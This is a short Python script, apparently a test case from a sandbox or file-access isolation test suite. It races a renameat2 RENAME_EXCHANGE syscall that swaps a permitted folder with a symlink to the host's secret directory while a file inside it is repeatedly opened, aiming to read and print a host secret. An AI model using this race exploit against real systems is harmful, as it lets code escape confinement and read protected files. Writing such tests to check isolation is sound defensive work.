# attack: swap a folder and a link to the host's folder while the file in it is opened
# success: the secret of the host is printed
import os
import threading
import time
from support.raw import bait, call, say

granted, secret = bait("GRANTED"), bait("SECRET")
os.mkdir(granted + "/a")
open(granted + "/a/" + os.path.basename(secret), "w").write("harmless")
os.symlink(os.path.dirname(secret), granted + "/b")
end = time.time() + 0.3


def swap():
    while time.time() < end:
        # RENAME_EXCHANGE
        call(316, -100, (granted + "/a").encode(), -100, (granted + "/b").encode(), 2)


thread = threading.Thread(target=swap)
thread.start()
while time.time() < end:
    try:
        text = open(granted + "/a/" + os.path.basename(secret)).read()
        if text != "harmless":
            say(text)
            break
    except OSError:
        pass
thread.join()
